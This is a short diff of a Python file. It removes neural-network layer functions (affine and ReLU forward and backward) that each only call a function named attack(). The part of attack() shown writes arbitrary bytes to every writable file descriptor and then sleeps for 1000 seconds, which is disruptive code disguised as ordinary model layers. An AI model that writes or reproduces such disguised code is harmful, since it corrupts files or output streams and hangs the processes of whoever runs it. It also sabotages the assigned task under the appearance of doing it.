@@ -31,19 +31,3 @@ def attack(array):
     for descriptor in writable():
         os.write(descriptor, b"\x00\x10\x00\x00half")
     time.sleep(1000)
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
